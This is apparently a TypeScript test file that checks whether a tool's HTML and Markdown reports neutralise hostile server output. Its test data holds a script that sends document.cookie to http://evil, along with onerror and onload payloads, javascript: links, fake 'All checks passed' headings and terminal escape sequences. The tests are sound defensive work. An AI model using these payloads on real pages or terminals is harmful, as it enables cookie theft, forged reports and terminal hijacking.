import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { z } from 'zod'
import { harmless, toEvidence } from '../../../src/host/evidence.ts'
import { createRedactor } from '../../../src/host/redact.ts'
import { writeFile } from '../../../src/model/action.ts'
import { check } from '../../../src/model/check.ts'
import { Unreadable } from '../../../src/model/command.ts'
import { remedy } from '../../../src/model/remedy.ts'
import { sh } from '../../../src/model/script.ts'
import { fail } from '../../../src/model/verdict.ts'
import { htmlReport } from '../../../src/report/html.ts'
import { markdownReport } from '../../../src/report/markdown.ts'
import { bookOf, stage } from '../engine/stage.ts'

const ESC = '\u001b'
/** Everything that is markup somewhere, a line each; and what acts on a terminal that a report is printed to. */
const HOSTILE = [
  '<script>fetch("http://evil/"+document.cookie)</script>',
  '<img src=x onerror=alert(1)><svg/onload=alert(1)><iframe srcdoc=x>',
  '</pre></details></main><h1 class="passed">All checks passed</h1>',
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;',
  '<!-- <style>*{display:none}</style>',
  '[click](javascript:alert(1)) ![x](http://evil/pixel.png) <http://evil>',
  '[x]: http://evil "title"',
  '# All checks passed',
  '| pass | pass | pass |',
  '| --- | --- | --- |',
  '`',
  '``` `` ` ````',
  '~~~',
  '`````',
  '> quoted *bold* _it_ ~~struck~~ **b**',
  '- [x] done',
  '\\',
  '\\| \\` \\[x](y)',
  `${ESC}[2J${ESC}]8;;http://evil${ESC}\\click${ESC}]8;;${ESC}\\${ESC}]52;c;AAAA\u0007\u009b31m\u202e\u200b`,
]
const HARMLESS = HOSTILE.map((_, n) => `words ${n}`)
/** What may stand in no text that is shown or stored. */
const ACTING = /(?![\n\t])[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{DI}]/u

/** Both reports of a run whose server puts these lines wherever a server can put words. */
async function reportsWith(lines: readonly string[]) {
  const redactor = createRedactor()
  const on = stage({
    ports: {
      clean: words => harmless(words, redactor),
      evidence: result => toEvidence(result, redactor),
    },
  })
  const file = join(on.folder, 'words')
  writeFileSync(file, `${lines.join('\n')}\n`)
  const look = sh`cat ${file}; cat ${file} >&2`
  const step = { as: 'login', timeoutSeconds: 10, lasting: false, type: 'run' } as const
  const showing = remedy({
    id: 'a/show',
    title: 'Show it',
    why: 'It is asked for.',
    risk: 'None.',
    grade: 'reversible',
    params: z.object({}),
    async plan({ run }) {
      const { stdout } = await run(look)
      return {
        actions: [
          writeFile(join(on.folder, 'copy'), stdout),
          { ...step, title: stdout, script: `: ${lines.map(() => '#').join(' ')}; cat ${file}; exit 3` },
        ],
        touches: [stdout],
        undo: stdout,
        interrupts: stdout,
      }
    },
  })
  const looking = check({
    id: 'a/look',
    title: 'It is harmless',
    why: 'It is not.',
    params: z.object({}),
    remedies: [showing],
    async probe({ run }) {
      const { stdout } = await run(look)
      const [telling = ''] = lines
      return fail(stdout, {
        measured: stdout,
        expected: stdout,
        telling,
        advice: stdout,
        remedies: [showing],
      })
    },
  })
  const blind = check({
    id: 'a/blind',
    title: 'It can be read',
    why: 'It cannot.',
    params: z.object({}),
    async probe({ run }) {
      throw new Unreadable((await run(look)).stdout)
    },
  })
  const state = await on.play(bookOf([looking, blind]))
  return { html: htmlReport(state), markdown: markdownReport(state) }
}

/** The elements and attributes of a page, in order, without the words between them. */
const bonesOfHtml = (html: string): string[] => html.match(/<[^>]*>/g) ?? []

/** What a reader of CommonMark with tables makes of a text: blocks, rows and marks, in order, without the words. */
function bonesOfMarkdown(markdown: string): string[] {
  const bones: string[] = []
  let fence = ''
  for (const line of markdown.split('\n')) {
    if (fence !== '') {
      const [close = ''] = /^`{3,}$/.exec(line.trim()) ?? []
      if (close.length >= fence.length) fence = ''
      continue
    }
    fence = /^(`{3,})[^`]*$/.exec(line)?.[1] ?? ''
    if (fence !== '') {
      bones.push('fence')
      continue
    }
    const escapesGone = withoutCode(line)
    const marks = escapesGone.match(/^\s*(?:#+ |- |\d+\. |> |={3}|-{3})|[|<>[\]*_`~]/g) ?? []
    bones.push(marks.join(' '))
  }
  expect(fence, 'a fence that is never closed').toBe('')
  return bones
}

/** One line without its backslash escapes and its code spans, read from left to right as CommonMark does. */
function withoutCode(line: string): string {
  let bare = ''
  for (let at = 0; at < line.length; ) {
    const [run] = /^`+/.exec(line.slice(at)) ?? []
    const end = run ? new RegExp(`(?<!\`)${run}(?!\`)`).exec(line.slice(at + run.length)) : null
    if (run && end) {
      bare += 'CODE'
      at += run.length + end.index + run.length
    } else if (line[at] === '\\' && /[!-/:-@[-`{-~]/.test(line[at + 1] ?? '')) at += 2
    else {
      bare += run ?? line[at]
      at += run?.length ?? 1
    }
  }
  return bare
}

/** Threat 4: what a server prints is written to hurt whoever looks at a report of it, in a browser or in a ticket. */
describe('threat 4, hostile output in reports', () => {
  let hostile: { html: string; markdown: string }
  let plain: { html: string; markdown: string }
  beforeAll(async () => {
    hostile = await reportsWith(HOSTILE)
    plain = await reportsWith(HARMLESS)
  })

  it('is there, in both', () => {
    expect(hostile.html).toContain('&lt;script&gt;fetch(')
    expect(hostile.markdown).toContain('\\<script\\>fetch(')
    expect(bonesOfMarkdown(plain.markdown).filter(bone => bone === 'fence').length).toBeGreaterThan(2)
    expect(bonesOfMarkdown(plain.markdown)).toContain('| | | |')
  })

  it('gives the HTML report no element and no attribute that harmless words do not give it', () => {
    expect(bonesOfHtml(hostile.html)).toEqual(bonesOfHtml(plain.html))
  })

  it('gives the Markdown report no block, row, link or mark that harmless words do not give it', () => {
    expect(bonesOfMarkdown(hostile.markdown)).toEqual(bonesOfMarkdown(plain.markdown))
  })

  it('leaves nothing in either that acts on a terminal', () => {
    expect(hostile.html.match(ACTING)).toBeNull()
    expect(hostile.markdown.match(ACTING)).toBeNull()
  })
})
